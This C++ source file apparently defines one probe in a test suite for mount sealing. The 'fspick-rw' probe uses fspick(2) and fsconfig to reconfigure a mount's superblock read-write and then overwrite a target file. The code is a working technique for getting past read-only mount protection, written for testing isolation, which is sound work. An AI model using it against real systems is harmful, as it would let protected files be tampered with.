// fspick-rw: makes the superblock behind the handle writable.
#include <fcntl.h>
#include <sys/mount.h>

#include "sys/unique_fd.hpp"
#include "workloads/payloads/probe/attack.hpp"
#include "workloads/payloads/probe/probe.hpp"

namespace sealbench::probe {

const Probe& fspick_read_write() {
  static const Probe kProbe{
      .name = "fspick-rw",
      .goal = Goal::content,
      .summary = "picks the superblock with fspick(2), reconfigures it read-write, then writes",
      .mechanism =
          "fspick(2) takes the root of any mount, also of a detached one, and asks for CAP_SYS_ADMIN over the "
          "superblock only",
      .attempt =
          [](Attack& attack) {
            const sys::UniqueFd picked(
                attack.did("fspick", ::fspick(attack.handle(), "", FSPICK_EMPTY_PATH | FSPICK_CLOEXEC)));
            if (!picked) return;
            attack.did("fsconfig rw", ::fsconfig(picked.get(), FSCONFIG_SET_FLAG, "rw", nullptr, 0));
            attack.did("fsconfig reconfigure", ::fsconfig(picked.get(), FSCONFIG_CMD_RECONFIGURE, nullptr, nullptr, 0));
            attack.overwrite(attack.path());
          },
  };
  return kProbe;
}

}  // namespace sealbench::probe
